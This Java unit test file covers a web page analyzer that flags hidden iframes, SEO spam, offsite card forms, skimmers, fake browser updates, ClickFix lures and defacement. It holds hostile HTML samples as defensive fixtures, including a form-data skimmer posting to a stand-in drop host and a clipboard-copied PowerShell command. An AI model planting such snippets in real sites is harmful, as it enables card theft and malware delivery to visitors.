package jp.mamori.checks.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import jp.mamori.checks.web.PageFacts.Kind;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

class PageAnalyzerTest {
  static final URI PAGE = URI.create("https://www.example.co.jp/");
  final PageAnalyzer analyzer = new PageAnalyzer(WebRules.get());

  PageFacts analyze(String html) {
    return analyzer.analyze(html.getBytes(StandardCharsets.UTF_8), PAGE, true);
  }

  List<String> checks(String html) {
    return analyze(html).observations().stream().map(Observation::check).toList();
  }

  @Test
  void hiddenIframesButNotTagManagersNoscriptFrame() {
    assertThat(checks("<iframe src=\"https://gate.example/\" width=\"1\" height=\"1\"></iframe>")).contains("web.hidden-iframe");
    assertThat(checks("<div style=\"display: none\"><iframe src=\"https://gate.example/\"></iframe></div>"))
        .contains("web.hidden-iframe");
    assertThat(checks("<style>.x{visibility:hidden}</style><iframe class=\"x\" src=\"//gate.example/\"></iframe>"))
        .contains("web.hidden-iframe");
    assertThat(checks("<noscript><iframe src=\"https://www.googletagmanager.com/ns.html?id=GTM-1\" height=\"0\" "
        + "width=\"0\" style=\"display:none;visibility:hidden\"></iframe></noscript>")).isEmpty();
    assertThat(checks("<iframe src=\"https://partner.example/map\" width=\"600\" height=\"400\"></iframe>")).isEmpty();
  }

  @Test
  void seoSpamHiddenOrVisibleButNotAccessibilityText() {
    String links = "<a href=\"https://pills.example/\">buy viagra</a><a href=\"https://pills.example/c\">cialis</a>";
    assertThat(checks("<div style=\"display:none\">" + links + "</div>")).contains("web.seo-spam");
    assertThat(checks("<div style=\"position:absolute;left:-9999px\">" + links + "</div>")).contains("web.seo-spam");
    assertThat(checks("<p style=\"color:#fff;background:#fff\">オンラインカジノ 入金不要ボーナス</p>")).contains("web.seo-spam");
    assertThat(checks("<p>ルイヴィトン スーパーコピー 財布 N級品 激安 通販</p>")).contains("web.seo-spam");
    // a Chinese casino page without the words of earlier lists ([fresh7]); a Chinese company page is not spam
    assertThat(checks("<title>澳门新葡京娱乐场 - 官方网站</title><p>注册即送 888 元，百家乐、老虎机、体育投注</p>"))
        .contains("web.seo-spam");
    assertThat(checks("<title>上海精密机械有限公司</title><p>我们提供在线娱乐设备的零部件加工服务。注册资本 500 万元。</p>"))
        .doesNotContain("web.seo-spam");
    assertThat(checks("<span class=\"sr-only\">新しいタブで開きます</span><span class=\"screen-reader-text\">メニュー</span>"
        + "<a class=\"skip-link\" href=\"#main\">本文へ</a><i aria-hidden=\"true\">★</i>"
        + "<ul style=\"display:none\"><li><a href=\"/news/\">お知らせ</a></li></ul>")).isEmpty();
    assertThat(checks("<p>IR（統合型リゾート）とカジノについての講演会を開催しました。</p>")).isEmpty();
  }

  @Test
  void resourcesByKindAndOrigin() {
    PageFacts f = analyze("<base href=\"https://hijack.example/\"><script src=\"js/app.js\"></script>"
        + "<link rel=\"stylesheet\" href=\"https://cdn.example/x.css\"><form action=\"https://forms.example/post\">"
        + "<input type=\"password\" name=\"pw\"></form><img src=\"https://px.example/t.gif\" width=\"1\" height=\"1\">");
    assertThat(f.resources()).extracting(r -> r.kind() + " " + r.url()).contains(
        "SCRIPT https://hijack.example/js/app.js", "STYLESHEET https://cdn.example/x.css",
        "FORM https://forms.example/post", "BEACON https://px.example/t.gif");
    assertThat(f.resources()).filteredOn(r -> r.kind() == Kind.FORM).allMatch(PageFacts.Resource::sensitive);
    assertThat(f.observations()).extracting(Observation::check).contains("web.form-offsite");
  }

  /** A card form pasted inside the checkout form: the parser drops the inner tag, but not where it was meant to post. */
  @Test
  void droppedNestedFormWithCardFields() {
    String checkout = "<form method=\"post\" action=\"/shopping/nonmember\"><input name=\"name\">%s<button>次へ</button>"
        + "</form>";
    String card = "<form id=\"card\" method=\"post\" action=\"https://pay-gate.example/charge.php\"><input name=\"cc_number\">"
        + "<input type=\"password\" name=\"cvc\"></form>";
    assertThat(checks(String.format(checkout, card))).contains("web.form-offsite");
    // the same nesting without card or password fields is only bad markup; a card form that posts home is the shop's own
    assertThat(checks(String.format(checkout, "<form action=\"https://news.example/sub\"><input name=\"mail\"></form>")))
        .doesNotContain("web.form-offsite");
    assertThat(checks(String.format(checkout, card.replace("https://pay-gate.example/charge.php", "/shopping/card")))).isEmpty();
  }

  /**
   * A page is parsed to its first {@link PageAnalyzer#MAX_ELEMENTS} elements (the box's heap holds a few thousand-element
   * DOM, not a 30,000-row archive); of the rest only the tags that load, send or point somewhere are read, as an
   * attacker appends them: a script, a form and its fields, a hidden link, and not what a comment holds. Padding
   * 10,000 tags into a comment before a skimmer does not hide it.
   */
  @Test
  void readsAPageToItsFirstTenThousandElementsAndTheTagsOfItsTail() {
    String card = "<form method=\"post\" action=\"/checkout\"><form action=\"https://pay-gate.example/charge.php\">"
        + "<input name=\"cc_number\"><input type=\"password\" name=\"cvc\"></form></form>";
    String late = "<div class='x'><form action=\"https://later.example/post\"><input name=\"q\"></form></div>"
        + "<!-- <script src=\"https://commented.example/x.js\"></script> -->"
        + "<p title='a > b'><a href=\"https://casino-link.example/\">オンラインカジノ</a></p>"
        + "<script src=\"https://late.example/x.js\"></script><script>new Image().src='https://beacon.example/c?'+1</script>";
    String rows = "<p>新しい設備を導入しました</p>\n";
    PageFacts huge = analyze(card + rows.repeat(12_000) + late);
    assertThat(huge.resources()).extracting(r -> r.url().getHost())
        .contains("pay-gate.example", "later.example", "late.example", "beacon.example").doesNotContain("commented.example");
    assertThat(analyze(card + rows.repeat(100) + late).resources()).extracting(r -> r.url().getHost())
        .contains("pay-gate.example", "later.example", "late.example", "beacon.example").doesNotContain("commented.example");

    PageFacts padded = analyze("<p>お知らせ</p><!--" + "<a>".repeat(11_000) + "--><script src=\"https://skim.example/s.js\"></script>");
    assertThat(padded.resources()).extracting(r -> r.url().getHost()).contains("skim.example");
    for (String pad : List.of("<a href=#>x</a>", "<input type=hidden name=f>", "<link rel=icon href=/i.png>")) {
      PageFacts padding = analyze("<p>お知らせ</p>" + pad.repeat(12_000) + "<script src=\"https://skim.example/s.js\"></script>");
      assertThat(padding.resources()).as(pad).extracting(r -> r.url().getHost()).contains("skim.example");
    }

    byte[] body = "<p>a</p> < b </p><br><!-- x --><P>".getBytes(StandardCharsets.UTF_8);
    assertThat(Bodies.elementsCut(body, 1)).isEqualTo("<p>a</p> < b </p>".length());
    assertThat(Bodies.elementsCut(body, 2)).isEqualTo("<p>a</p> < b </p><br><!-- x -->".length());
    assertThat(Bodies.elementsCut(body, 3)).isEqualTo(body.length);
    byte[] hidden = "<!-- <a><a> --><script>if (a<b && c<d) {}</script><p>".getBytes(StandardCharsets.UTF_8);
    assertThat(Bodies.elementsCut(hidden, 1)).isEqualTo(hidden.length - "<p>".length());
    byte[] tail = "<div><a href='/x' title=\"1>0\">リンク</a><img src=x.gif><p>本文</p><STYLE>@import url(//s.example/a.css)</STYLE>"
        .getBytes(StandardCharsets.UTF_8);
    assertThat(Bodies.tailTags(tail, 0, StandardCharsets.UTF_8))
        .isEqualTo("<a href='/x' title=\"1>0\">リンク</a><img src=x.gif><STYLE>@import url(//s.example/a.css)</style>");
  }

  /**
   * A decompression bomb's megabyte of NUL bytes is read without them (the parser took 15 MiB of heap dropping them one
   * by one from the text); what follows them is read; a UTF-16 page keeps its NULs, half of each of its letters.
   */
  @Test
  void nulBytesAreLeftOutUnlessTheBomSaysUtf16() {
    byte[] nuls = new byte[1024 * 1024 - 100];
    byte[] bomb = ("<p>" + new String(nuls, StandardCharsets.ISO_8859_1)
        + "<script src=\"https://after-nuls.example/x.js\"></script>").getBytes(StandardCharsets.ISO_8859_1);
    com.sun.management.ThreadMXBean threads = (com.sun.management.ThreadMXBean) java.lang.management.ManagementFactory
        .getThreadMXBean();
    long before = threads.getCurrentThreadAllocatedBytes();
    PageFacts read = analyzer.analyze(bomb, PAGE, true);
    long allocated = threads.getCurrentThreadAllocatedBytes() - before;
    assertThat(read.resources()).extracting(r -> r.url().getHost()).contains("after-nuls.example");
    assertThat(allocated).as("bytes allocated reading 1 MiB of NULs").isLessThan(4L * 1024 * 1024);

    byte[] utf16 = ("\uFEFF<html><body><script src=\"https://wide.example/x.js\"></script></body></html>")
        .getBytes(StandardCharsets.UTF_16LE);
    assertThat(Bodies.withoutNuls(utf16)).isSameAs(utf16);
    assertThat(analyzer.analyze(utf16, PAGE, true).resources()).extracting(r -> r.url().getHost()).contains("wide.example");
    assertThat(Bodies.withoutNuls("a\0b\0".getBytes(StandardCharsets.UTF_8))).containsExactly('a', 'b');
  }

  @Test
  void redirectsLookAlikesShortenersAndDefacement() {
    assertThat(checks("<meta http-equiv=\"refresh\" content=\"0;URL='https://fake.example/'\">")).contains("web.redirect-offsite");
    assertThat(checks("<meta http-equiv=\"refresh\" content=\"5;url=/news/\">")).isEmpty();
    assertThat(checks("<script src=\"https://code.jquery.co/jquery.js\"></script>")).contains("web.cdn-typosquat");
    assertThat(checks("<script src=\"https://code.jquery.com/jquery.js\"></script>")).isEmpty();
    assertThat(checks("<script src=\"https://bit.ly/abc\"></script>")).contains("web.url-shortener");
    assertThat(checks("<title>Hacked by Team X</title>")).contains("web.defacement");
    assertThat(checks("<h1>HaCk3D bY z3r0</h1>")).contains("web.defacement");
    assertThat(checks("<p>当社サイトはハッキングされました。</p>")).contains("web.defacement");
    assertThat(checks("<title>HACKED !!!</title><img src=x.jpg>")).contains("web.defacement");
    assertThat(checks("<p>アカウントが乗っ取られる被害やハッキングへの対策を解説します。</p>")).isEmpty();
    assertThat(checks("<p>ハッカソンを開催しました。セキュリティ対策をご紹介します。</p>")).isEmpty();
  }

  @Test
  void cmsVersionsFromGeneratorAndAssets() {
    assertThat(analyze("<meta name=\"generator\" content=\"Drupal 7 (https://www.drupal.org)\">").coreVersions())
        .containsExactly("7");
    PageFacts wp = analyze("<script src=\"/wp-includes/js/jquery/jquery.min.js?ver=4.9.8\"></script>");
    assertThat(wp.wordpress()).isTrue();
    assertThat(wp.coreVersions()).containsExactly("4.9.8");
    assertThat(Hygiene.cms(WebRules.get(), "wordpress", "4.9.8").orElseThrow().check()).isEqualTo("web.cms-unsupported");
    assertThat(Hygiene.cms(WebRules.get(), "drupal", "7").orElseThrow().check()).isEqualTo("web.cms-unsupported");
    assertThat(Hygiene.cms(WebRules.get(), "wordpress", "6.4.2").orElseThrow().check()).isEqualTo("web.cms-outdated");
    assertThat(Hygiene.cms(WebRules.get(), "wordpress", "6.8.3")).isEmpty();
  }

  @Test
  void languageAndSummaries() {
    PageFacts ja = analyze("<p>" + "山田精工は東大阪の町工場です。精密部品を作っています。".repeat(5) + "</p>");
    PageFacts en = analyze("<p>" + "We are a small precision machining company in Osaka. ".repeat(5) + "</p>");
    assertThat(ja.textLanguage()).isEqualTo("ja");
    assertThat(analyze("<p>" + "最新优惠活动，注册即送彩金，每日返水，信誉第一，安全稳定。".repeat(5) + "</p>").textLanguage())
        .isEqualTo("zh");
    assertThat(analyze("<table><tr><td>代表取締役社長</td><td>山田太郎</td></tr><tr><td>本社所在地</td><td>大阪府東大阪市高井田</td>"
        + "</tr><tr><td>事業内容</td><td>精密部品加工、金型設計製作、試作品製作</td></tr></table><p>お問い合わせください。</p>")
        .textLanguage()).isEqualTo("ja");
    assertThat(en.textLanguage()).isEqualTo("latin");
    assertThat(Texts.similarity(ja.textSketch(), ja.textSketch())).isEqualTo(1.0);
    assertThat(Texts.similarity(ja.textSketch(), en.textSketch())).isLessThan(0.1);
  }

  /** Bodies reach the analyzer capped at 2 MiB; the time limit only guards against a stall. */
  @Test
  @Timeout(120)
  void survivesHostileHtml() {
    String deep = "<div>".repeat(100_000) + "<a href=\"/x\">x</a>" + "</div>".repeat(10);
    assertThat(analyze(deep).pageLinks()).isNotNull();
    String frames = ("<iframe srcdoc=\"" + "&lt;div&gt;".repeat(20_000) + "&lt;script src='https://f.example/s.js'&gt;"
        + "&lt;/script&gt;\"></iframe>").repeat(30);
    assertThat(analyze(frames).resources()).hasSizeLessThan(100);
    String attrs = "<img srcset=\"" + "https://a.example/x.jpg 1x, ".repeat(50_000) + "\">";
    assertThat(analyze(attrs).hostsMentioned()).hasSizeLessThan(1100);
    String hugeAttr = "<div title=\"" + "A".repeat(1_500_000) + "\" onclick=\"" + "eval(".repeat(50_000) + "\">x</div>";
    assertThat(analyze(hugeAttr)).isNotNull();
    byte[] garbage = new byte[500_000];
    new Random(7).nextBytes(garbage);
    assertThat(analyzer.analyze(garbage, PAGE, true)).isNotNull();
    assertThat(analyze("<meta charset=\"x-no-such-charset\"><p>こんにちは</p>").textLength()).isPositive();
    String sjis = "<meta charset=\"Shift_JIS\"><title>会社</title><p>こんにちは</p>";
    assertThat(analyzer.analyze(sjis.getBytes(java.nio.charset.Charset.forName("Shift_JIS")), PAGE, false).title())
        .isEqualTo("会社");
    String manyScripts = ("<script>var a='" + "\\x41".repeat(5000) + "';" + "fromCharCode(1,".repeat(2000) + "</script>")
        .repeat(20);
    assertThat(analyze(manyScripts)).isNotNull();
    String unclosed = "<table>".repeat(20_000) + "<select><option>".repeat(10_000);
    assertThat(analyze(unclosed)).isNotNull();
  }

  @Test
  void moreWaysToHideSpamButNotMenusOrLayout() {
    String links = "<a href=\"https://casino-a.example/\">オンラインカジノ</a><a href=\"https://casino-b.example/\">ネットカジノ</a>";
    for (String style : List.of("transform:scale(0)", "max-height:0;overflow:hidden", "position:fixed;bottom:-3000px",
        "position:absolute;clip:rect(0 0 0 0)", "opacity:0.0", "font-size:0.1px")) {
      assertThat(checks("<div style=\"" + style + "\">" + links + "</div>")).as(style).contains("web.seo-spam");
    }
    assertThat(checks("<p>本文</p><noscript>" + links + "</noscript>")).contains("web.seo-spam");
    assertThat(checks("<div id=\"x9\"><a href=\"https://a.example/\">a</a><a href=\"https://b.example/\">b</a><a "
        + "href=\"https://c.example/\">c</a></div><script>document.getElementById('x9').style.display='none'</script>"))
        .contains("web.seo-spam");
    assertThat(checks("<map name=\"m\"><area href=\"https://casino-a.example/\" alt=\"オンラインカジノ\"></map>"))
        .contains("web.seo-spam");
    // a centred popup's margin is layout; a hidden drawer menu is mostly the site's own pages
    assertThat(checks("<div style=\"position:absolute;left:50%;margin-left:-320px\"><a href=\"https://a.example/\">a</a>"
        + "<a href=\"https://b.example/\">b</a><a href=\"https://c.example/\">c</a></div>")).isEmpty();
    assertThat(checks("<div style=\"display:none\"><a href=\"/\">ホーム</a><a href=\"/menu\">メニュー</a><a href=\"/access\">"
        + "アクセス</a><a href=\"/about\">会社案内</a><a href=\"https://temple.example/\">長谷寺</a><a href=\"https://rail.example/\">"
        + "江ノ電</a><a href=\"https://tourism.example/\">観光協会</a></div>")).isEmpty();
    assertThat(checks("<p><a href=\"https://shop.example/\">シャネル バッグ 激安 通販</a></p>")).contains("web.seo-spam");
    assertThat(checks("<p><a href=\"https://shop.example/\">ルイヴィトン 財布</a></p>")).isEmpty();
  }

  @Test
  void fakeBrowserUpdates() {
    assertThat(checks("<div><h1>お使いのブラウザは最新ではありません</h1><p><a href=\"https://upd.example/ChromeSetup.zip\">"
        + "今すぐ更新</a></p></div>")).contains("web.fake-update");
    assertThat(checks("<div><h2>Your browser is out of date</h2><a href=\"http://upd.example/Update.exe\">Update</a></div>"))
        .contains("web.fake-update");
    assertThat(checks("<p>最新版カタログ <a href=\"https://maker.example/catalog2026.zip\">ダウンロード</a></p>")).isEmpty();
    assertThat(checks("<p>ブラウザを最新版に更新してください。<a href=\"https://www.microsoft.com/edge\">Edge</a></p>")).isEmpty();
  }

  @Test
  void formActionsPreloadsDataScriptsAndIocHosts() {
    PageFacts f = analyze("<form action=\"/entry\"><input type=\"password\" name=\"pw\"><button formaction="
        + "\"https://steal.example/e\">登録</button></form><link rel=\"modulepreload\" href=\"https://esm.example/m.js\">"
        + "<img src=\"https://img.bad.example/b.gif\" width=\"300\">"
        + "<script src=\"data:text/javascript;base64," + java.util.Base64.getEncoder().encodeToString(
            "window.location.href='https://casino.example/';".getBytes()) + "\"></script>");
    assertThat(f.resources()).extracting(r -> r.kind() + " " + Sites.host(r.url())).contains("FORM steal.example",
        "SCRIPT esm.example");
    assertThat(f.observations()).extracting(Observation::check).contains("web.form-offsite", "web.redirect-offsite");
    assertThat(f.hostsMentioned()).contains("img.bad.example");
    assertThat(checks("<meta http-equiv=\"refresh\" content=\"3; URL = 'https://fake.example/'\">")).contains("web.redirect-offsite");
  }

  @Test
  void aNormalPageBehindABotProtectionServiceIsStillChecked() {
    String page = "<html><head><title>会社</title></head><body>" + "<p>当社は東大阪の町工場です。</p>".repeat(100)
        + "<a href=\"/a\">a</a><a href=\"/b\">b</a><a href=\"/c\">c</a><a href=\"/d\">d</a><a href=\"/e\">e</a>"
        + "<script>a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';</script></body></html>";
    assertThat(analyze(page).blockedPage()).isFalse();
    assertThat(analyze("<html><head><title>Just a moment...</title></head><body><div id=\"cf-chl-widget\">Checking your "
        + "browser</div><script src=\"/cdn-cgi/challenge-platform/h/b/orchestrate/jsch/v1\"></script></body></html>")
        .blockedPage()).isTrue();
  }

  @Test
  void pagesOnlyARobotIsLinkedTo() {
    String nav = "<a href=\"/about/\">about</a><a href=\"/news/\">news</a>";
    StringBuilder doorways = new StringBuilder(nav);
    for (int n = 1; n <= 6; n++) {
      doorways.append("<a href=\"/?p=kopi-").append(n).append("\">").append(n).append("</a>");
    }
    PageFacts visitor = analyzer.analyze(nav.getBytes(StandardCharsets.UTF_8), PAGE, false);
    PageFacts bot = analyzer.analyze(doorways.toString().getBytes(StandardCharsets.UTF_8), PAGE, true);
    assertThat(Patrol.robotOnlyPages(bot, visitor, visitor)).contains("/?p=kopi-1");
    // visitors' own views already differ as much (rotating "related posts"): no sign
    PageFacts other = analyzer.analyze((nav + doorways.substring(nav.length()).replace("kopi", "post")).getBytes(
        StandardCharsets.UTF_8), PAGE, false);
    assertThat(Patrol.robotOnlyPages(bot, visitor, other)).isNull();
  }

  @Test
  void clickFixPagesAndCrewSignatures() {
    String steps = "<p>確認のため：Windows キー + R を押し、Ctrl + V を押して Enter を押してください。</p>";
    assertThat(checks(steps + "<script>document.getElementById('c').onclick=function(){navigator.clipboard.writeText(x)}"
        + "</script>")).contains("web.fake-update");
    // the same keyboard help without anything put on the clipboard is a help page
    assertThat(checks(steps)).doesNotContain("web.fake-update");
    // Japanese text right after the key letter ("Windowsキー＋Rを押します"), copied with execCommand
    assertThat(checks("<p>1. Windowsキー＋Rを押します<br>2. Ctrl＋Vで貼り付けます</p><textarea id=t>cmd /c start powershell"
        + "</textarea><script>b.onclick=function(){t.select();document.execCommand('copy')}</script>"))
        .contains("web.fake-update");
    assertThat(checks("<title>./Gh0stSec</title><img src=x.gif>")).contains("web.defacement");
    assertThat(checks("<center><h1>~ Touched By ./Sec7or Team ~</h1></center>")).contains("web.defacement");
    assertThat(checks("<h1>このホームページは乗っ取られています</h1>")).contains("web.defacement");
    // an owner's notice about an incident, and a page that merely says "touched by"
    assertThat(checks("<p>当サイトは一時的にハッキングされていましたが、現在は復旧しています。ご迷惑をおかけしました。</p>"))
        .doesNotContain("web.defacement");
    assertThat(checks("<p>Guests are touched by the warm hospitality of our staff.</p>")).doesNotContain("web.defacement");
  }

  @Test
  void framesStylesheetsConfigAndDeclaredHosts() {
    PageFacts srcdoc = analyze("<iframe srcdoc=\"<script src='https://frame-js.example/s.js'></script>\" "
        + "style=\"display:none\"></iframe>");
    assertThat(srcdoc.resources()).anyMatch(r -> r.kind() == Kind.SCRIPT && r.url().getHost().equals("frame-js.example"));
    assertThat(srcdoc.observations()).extracting(Observation::check).contains("web.hidden-iframe");
    assertThat(analyze("<link rel=\"preload\" as=\"style\" href=\"https://css.example/a.css\">").resources())
        .anyMatch(r -> r.kind() == Kind.STYLESHEET);
    // a drop URL kept in a meta tag of the page's own naming reaches the script that reads it
    assertThat(checks("<meta name=\"x-endpoint\" content=\"https://drop.example/r\"><script>document.addEventListener('submit',"
        + "function(e){fetch(document.querySelector('meta[name=x-endpoint]').content,{method:'POST',body:JSON.stringify("
        + "Object.fromEntries(new FormData(e.target)))})});</script>")).contains("web.skimmer");
    assertThat(checks("<meta property=\"og:image\" content=\"https://cdn.example/o.jpg\"><script>document.addEventListener("
        + "'submit',function(e){fetch('/api',{method:'POST',body:JSON.stringify(Object.fromEntries(new FormData(e.target)))})"
        + "});</script>")).doesNotContain("web.skimmer");
    PageFacts hosts = analyze("<img srcset=\"https://img.srcset.example/a.jpg 2x\"><div style=\"background:url(//bg.example/b.png)"
        + "\"></div><link rel=\"canonical\" href=\"https://other-site.example/x\"><link rel=\"alternate\" type=\"application/"
        + "rss+xml\" href=\"https://feeds.example/rss\">");
    assertThat(hosts.hostsMentioned()).contains("img.srcset.example", "bg.example");
    assertThat(hosts.declaredHosts()).containsExactly("other-site.example");
  }

  @Test
  void brandLinksTogetherAndLinkListsBehindAccessibilityClasses() {
    String one = "<a href=\"https://brand.example/lv\">ルイヴィトン 財布 激安</a>";
    String more = one + "<a href=\"https://brand.example/gucci\">グッチ バッグ 通販</a>";
    assertThat(checks("<p>" + one + "</p>")).doesNotContain("web.seo-spam");
    assertThat(checks("<p>" + more + "</p>")).contains("web.seo-spam");
    // screen-reader text is left alone; a list of other sites' links in a screen-reader class is not screen-reader text
    assertThat(checks("<span class=\"sr-only\">（新しいウィンドウで開きます）</span>")).isEmpty();
    assertThat(checks("<div class=\"sr-only\"><a href=\"https://a.example/\">ルイヴィトン 財布</a><a href=\"https://b.example/\">"
        + "シャネル 通販</a><a href=\"https://c.example/\">ロレックス 新作</a></div>")).contains("web.seo-spam");
  }

  @Test
  void fakeUpdateWordingInTheHeadingBeforeABareButtonOrInTheTitle() {
    assertThat(checks("<html><head><title>Google Chrome を更新してください</title></head><body><h1>お使いのブラウザは最新では"
        + "ありません</h1><p>表示するには更新が必要です。</p><a href=\"https://upd.example/Chrome.Update.zip\">更新する</a>"
        + "</body></html>")).contains("web.fake-update");
    assertThat(checks("<html><head><title>Chrome update</title></head><body><a href=\"https://upd.example/u.zip\">OK</a>"
        + "</body></html>")).contains("web.fake-update");
    // a catalogue archive next to ordinary words is a download, not a fake update
    assertThat(checks("<html><head><title>カタログ｜株式会社例</title></head><body><h2>製品カタログ</h2><p>2026年版に更新しました。"
        + "</p><a href=\"https://files.example/catalog-2026.zip\">ダウンロード</a></body></html>")).doesNotContain("web.fake-update");
  }
}
